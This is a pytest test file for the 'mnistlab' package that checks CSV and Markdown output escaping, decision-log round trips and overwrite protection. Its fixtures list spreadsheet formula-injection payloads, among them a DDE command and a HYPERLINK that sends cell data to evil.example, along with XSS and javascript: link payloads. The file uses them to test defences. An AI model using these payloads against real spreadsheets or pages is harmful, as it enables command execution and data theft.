"""What mnistlab writes is safe to open and reads back exactly: CSV tables never hand a spreadsheet a formula,
Markdown pages never turn a user's text into HTML, links or images, and mnistlab's own readers of those files get
the original text back."""

from __future__ import annotations

import csv
import html.parser
import io
import re

import numpy as np
import pytest

from mnistlab import datasets
from mnistlab.fileio import (
    FORMULA_STARTS,
    markdown_text,
    read_cell,
    read_table_dicts,
    read_table_rows,
    table_cell,
    write_table,
)

# Cells a spreadsheet would run (OWASP's list and its variants), and text that must come back unchanged.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=already quoted",
    "''+twice",
]
PLAIN = ["plain", "", "'", "''", "'quoted", "a,b", 'say "hi"', "multi\nline", "T-shirt/top", "1e5", "-"]


def spreadsheet_cells(path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet reads it."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


NUMBER = re.compile(r"-?\d+(\.\d*)?([eE][-+]?\d+)?")  # a negative number is a number, not a formula


def assert_no_formula(path) -> None:
    runnable = [
        cell for cell in spreadsheet_cells(path) if cell[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell)
    ]
    assert not runnable, f"{path}: cells a spreadsheet would run as formulas: {runnable}"


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_a_cell_is_neutralised_and_read_back_exactly(tmp_path, text):
    path = write_table(tmp_path / "t.csv", [[text, 1.5, -3], {"x": -1}], ["x", "y", "z"])
    assert_no_formula(path)
    assert read_cell(table_cell(text)) == text
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(read_table_rows(f))
    assert rows == [["x", "y", "z"], [text, "1.5", "-3"], ["-1", "", ""]]  # numbers are written as numbers
    with open(path, newline="", encoding="utf-8") as f:
        assert next(read_table_dicts(f)) == {"x": text, "y": "1.5", "z": "-3"}


def test_a_header_cell_is_neutralised_too(tmp_path):
    path = write_table(tmp_path / "t.csv", [[1]], ["=evil"])
    assert_no_formula(path)
    with open(path, newline="", encoding="utf-8") as f:
        assert read_table_dicts(f).fieldnames == ["=evil"]


NAMES = ["=cmd|' /C calc'!A0", "+SUM(1)", "-minus", "@at", "plain"]


@pytest.fixture
def hostile_classes(tmp_path, blobs):
    X, y = blobs(75, 5)
    train = datasets.Dataset(X, y, NAMES, "hostile", "train")
    return train, datasets.export(train, tmp_path / "data", "npz")


def test_an_image_folder_s_labels_csv_has_no_formula_and_loads_back(hostile_classes, tmp_path):
    train, _ = hostile_classes
    folder = datasets.export(train, tmp_path / "png", "png")
    assert_no_formula(folder / "labels.csv")
    back = datasets.load(folder, classes=NAMES)
    assert back.classes == NAMES and np.array_equal(back.labels, train.labels)
    inferred = datasets.load(folder)  # class names read from the manifest itself
    assert sorted(inferred.classes) == sorted(NAMES)
    assert [inferred.classes[k] for k in inferred.labels] == [NAMES[k] for k in train.labels]


def test_health_tables_have_no_formula_and_the_review_reads_them_back(hostile_classes, tmp_path):
    from mnistlab.serve.review import read_findings, read_per_image
    from mnistlab.workflows.health import health

    train, data = hostile_classes
    out = tmp_path / "health"
    health(data, checks="duplicates,outlier,odd", out=out, gallery=0)
    for name in ("per_image.csv", "findings.csv"):
        assert_no_formula(out / name)
    with open(out / "per_image.csv", newline="", encoding="utf-8") as f:
        labels = [row["label"] for row in read_table_dicts(f)]
    assert labels == [NAMES[k] for k in train.labels]
    splits = {"train": datasets.load(data)}
    flagged, _ = read_per_image(out / "per_image.csv", splits)  # labels compared with the data's: all equal
    assert len(flagged) == len(train)
    read_findings(out / "findings.csv", splits)


# Text a user chose that a Markdown renderer would turn into HTML, links, images, mentions or layout.
HOSTILE_MARKDOWN = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![track](http://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "www.evil.example",
    "me@evil.example",
    "**bold** _em_ ~~gone~~ `code`",
    "a | b",
    "# heading",
    "line\nbreak <b>x</b>",
    "sep\u2028<i>x</i>\u2029y\x85z",
    "&lt;entity&gt; &amp;",
    "[ref]: http://evil.example",
    "\\<img src=x>",
    "$x^2$ :smile: @someone",
]


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def rendered(markdown: str, renderer: str) -> _Tags:
    if renderer == "commonmark":
        markdown_it = pytest.importorskip("markdown_it")
        page = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    else:
        python_markdown = pytest.importorskip("markdown")
        page = python_markdown.markdown(markdown, extensions=["tables"])
    parser = _Tags()
    parser.feed(page)
    return parser


LAYOUT_TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
}  # the page's own


def assert_only_layout(markdown: str, texts: list[str]) -> None:
    for renderer in ("commonmark", "python-markdown"):
        page = rendered(markdown, renderer)
        extra = [(tag, attrs) for tag, attrs in page.tags if tag not in LAYOUT_TAGS or attrs]
        assert not extra, f"{renderer} rendered {extra}"
        if renderer == "commonmark":  # the text itself shows as written (line breaks as their codes)
            shown = "".join(page.text)
            for text in texts:
                visible = "".join(f"\\u{ord(c):04x}" if c in "\n\u2028\u2029\x85" else c for c in text)
                assert visible in shown


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_is_shown_as_written(text):
    assert_only_layout(
        f"- before {markdown_text(text)} after\n\n| a |\n|---|\n| {markdown_text(text)} |\n", [text]
    )


def test_a_model_card_shows_every_recorded_text_as_text():
    from mnistlab.reports.pages import model_card_text, side_evaluation_text

    names = HOSTILE_MARKDOWN[:10]
    report = {name: {"recall": 0.5, "precision": 0.5, "f1-score": 0.5} for name in names}
    report["macro avg"] = {"f1-score": 0.5, "recall": 0.5}
    evaluation = {"accuracy": 0.5, "report": report, "most_confused": [(names[0], names[1], 3)]}
    config = {
        "model": "softmax",
        "data": "[data](javascript:alert(1))",
        "classes": names,
        "params": {"note": "<img src=x>"},
        "data_source": {"train": {"spec": "![x](http://evil.example/x.png)", "rows": "<b>9</b>"}},
        "machine": {"cpu": "<script>cpu</script>"},
    }
    metrics = {"evaluation": evaluation, "splits": {"train": "<i>split</i>"}}
    card = model_card_text(config, metrics)
    assert_only_layout(card, [*names, config["data"], "<img src=x>", "<script>cpu</script>"])
    record = {
        "run": "<img src=run>",
        "data": {"spec": "[s](javascript:x)", "path": "<img src=path>", "rows": 3, "sha256": "<b>"},
        "evaluation": evaluation,
        "figures": ["<img src=fig>"],
    }
    assert_only_layout(
        side_evaluation_text(config, record), ["<img src=run>", "<img src=path>", "<img src=fig>"]
    )


def test_a_model_card_written_by_evaluate_escapes_the_class_names(hostile_classes, tmp_path):
    from mnistlab.workflows import evaluate_run, train_model

    markdown_names = [
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![p](http://evil.example/p)",
    ]
    X, y = hostile_classes[0].images[:60], hostile_classes[0].labels[:60] % 3
    data = datasets.export(
        datasets.Dataset(X, y, markdown_names, "<b>toy</b>", "train"), tmp_path / "md", "npz"
    )
    out = tmp_path / "run"
    train_model(data, "naive-bayes", test_fraction=0.3, out=out, verbose=0)
    evaluate_run(out)
    assert_only_layout((out / "model_card.md").read_text(encoding="utf-8"), markdown_names)


def test_the_graph_comparison_table_escapes_names(tmp_path):
    from mnistlab.workflows.graphs import _write_comparison

    row = {"source": "<img src=x>", "method": "a|b", "images": 3, "verdict": "[v](javascript:x)"}
    _write_comparison([row], tmp_path)
    assert_only_layout(
        (tmp_path / "graph_compare.md").read_text(), ["<img src=x>", "a|b", "[v](javascript:x)"]
    )
    assert_no_formula(tmp_path / "graph_compare.csv")


def test_every_csv_writer_goes_through_write_table():
    """The class, not the example: no module of the product opens a CSV writer of its own."""
    from pathlib import Path

    import mnistlab

    root = Path(mnistlab.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py" and ("csv.writer" in path.read_text() or "DictWriter" in path.read_text())
    ]
    assert writers == []
    readers = [  # and every reader of a table mnistlab wrote reads its cells back through fileio
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py"
        and ("csv.reader" in path.read_text() or "csv.DictReader" in path.read_text())
    ]
    assert readers == []


def test_text_is_read_back_from_a_stringio_too():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([table_cell("=1"), table_cell("-x")])
    assert next(read_table_rows(io.StringIO(buffer.getvalue()))) == ["=1", "-x"]


# Text that Python's str.splitlines, JavaScript or a UTF-8 encoder would trip on, and other odd text.
ODD_REASONS = [
    "line\u2028separator",
    "paragraph\u2029separator",
    "next\x85line",
    "\x0bvertical\x0cfeed\x1cfile\x1dgroup\x1erecord",
    "cr\rlf\ncrlf\r\n",
    "nul\x00tab\t",
    "lone \ud800 surrogate \udfff",
    "emoji \U0001f600 and RTL \u202e override",
    '"quoted" \\ backslash {"json": [1]}',
    "'=1+1",
    "",
    "x" * 500,
]


@pytest.fixture
def toy_splits():
    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, (12, 28, 28), dtype=np.uint8)
    labels = np.arange(12) % 3
    classes = ["zero", "one\u2028two", "x\u2029y"]  # class names may hold line separators (category Z)
    return {"train": datasets.Dataset(images, labels, classes, "toy", "train")}


def test_decisions_read_back_exactly_what_was_written(tmp_path, toy_splits):
    from mnistlab.datasets.fixes import read_decisions, record_decision, start_decisions

    path = tmp_path / "decisions.jsonl"
    start_decisions(path, toy_splits)
    for index, reason in enumerate(ODD_REASONS):
        record_decision(path, "train", index, "relabel", label="one\u2028two", reason=reason)
    decided, superseded = read_decisions(path, toy_splits)
    assert superseded == 0
    assert [decided["train", i].reason for i in range(len(ODD_REASONS))] == ODD_REASONS
    assert all(decided["train", i].label == "one\u2028two" for i in range(len(ODD_REASONS)))
    raw = path.read_bytes()
    assert raw.count(b"\n") == 1 + len(ODD_REASONS)  # one line each
    assert len(raw.decode("utf-8").splitlines()) == 1 + len(ODD_REASONS)  # for any other reader too
    start_decisions(path, toy_splits)  # resumed: the header still reads


def test_a_decisions_file_an_older_version_wrote_with_raw_separators_still_reads(tmp_path, toy_splits):
    """Lines end at \\n only: U+2028 written raw inside a string (as before) does not split a line."""
    import json

    from mnistlab.datasets.fixes import header, read_decisions

    path = tmp_path / "decisions.jsonl"
    entry = {"split": "train", "index": 3, "action": "drop", "reason": "a\u2028b\u2029c\x85d"}
    lines = [json.dumps(header(toy_splits), ensure_ascii=False), json.dumps(entry, ensure_ascii=False)]
    path.write_bytes(("\n".join(lines) + "\n").encode())
    decided, _ = read_decisions(path, toy_splits)
    assert decided["train", 3].reason == "a\u2028b\u2029c\x85d"


def test_the_review_page_and_data_fix_take_a_reason_with_a_line_separator(tmp_path, toy_splits, capsys):
    testclient = pytest.importorskip("fastapi.testclient")
    from mnistlab.cli.main import main
    from mnistlab.serve.review import create_review_app

    data = datasets.export(toy_splits["train"], tmp_path / "data", "npz")
    findings = tmp_path / "findings.csv"
    findings.write_text(
        "kind,splits,indices,labels,value\noutlier,train,4,one,3.2\noutlier,train,5,two,3.1\n"
    )
    decisions = tmp_path / "decisions.jsonl"
    page = testclient.TestClient(create_review_app(data, findings, decisions), base_url="http://localhost")
    for item, reason in enumerate(("see\u2028this", "and\x85that\u2029too")):
        assert (
            page.post("/decide", json={"item": item, "action": "drop", "reason": reason}).status_code == 200
        )
    assert page.get("/items").status_code == 200
    reopened = testclient.TestClient(
        create_review_app(data, findings, decisions), base_url="http://localhost"
    )
    assert reopened.get("/items").status_code == 200
    out = tmp_path / "clean"
    args = ["data", "fix", str(data), "--decisions", str(decisions), "--format", "npz", "--out", str(out)]
    assert main(args) == 0, capsys.readouterr().err
    import json

    reasons = [c["reason"] for c in json.loads((out / "fixes.json").read_text())["changes"]]
    assert reasons == ["see\u2028this", "and\x85that\u2029too"]


@pytest.fixture
def fix_inputs(tmp_path, blobs):
    from mnistlab.datasets.fixes import record_decision, start_decisions

    X, y = blobs(12)
    data = datasets.export(datasets.Dataset(X, y, ["a", "b", "c"], "toy", "train"), tmp_path / "data", "npz")
    decisions = tmp_path / "decisions.jsonl"
    start_decisions(decisions, datasets.load_splits(data))
    record_decision(decisions, "train", 1, "drop", reason="smudge")
    return data, decisions


@pytest.mark.parametrize("fmt", ["npz", "png", "csv"])
def test_data_fix_never_replaces_a_users_own_fixes_json(tmp_path, fix_inputs, capsys, fmt):
    from mnistlab.cli.main import main

    data, decisions = fix_inputs
    out = tmp_path / "clean"
    out.mkdir()
    (out / "fixes.json").write_text("my own notes\n")
    args = ["data", "fix", str(data), "--decisions", str(decisions), "--format", fmt, "--out", str(out)]
    assert main(args) == 1
    err = capsys.readouterr().err
    assert f"{out / 'fixes.json'}: exists and was not written by an export of 'toy'" in err
    assert "--overwrite" in err and "Traceback" not in err
    assert (out / "fixes.json").read_text() == "my own notes\n"
    assert sorted(p.name for p in out.iterdir()) == ["fixes.json"]  # refused before anything was written
    assert main([*args, "--overwrite"]) == 0  # asked: replaced
    assert "smudge" in (out / "fixes.json").read_text()
    assert main(args) == 0, capsys.readouterr().err  # its own fixes.json: a fix again replaces it


def test_data_fix_refuses_a_link_named_fixes_json(tmp_path, fix_inputs):
    from mnistlab.datasets.fixes import write_fixed
    from mnistlab.errors import DataFormatError

    data, decisions = fix_inputs
    out = tmp_path / "clean"
    out.mkdir()
    (out / "fixes.json").symlink_to(tmp_path / "nowhere")
    with pytest.raises(DataFormatError, match="was not written by an export"):
        write_fixed(data, decisions, out, "npz")
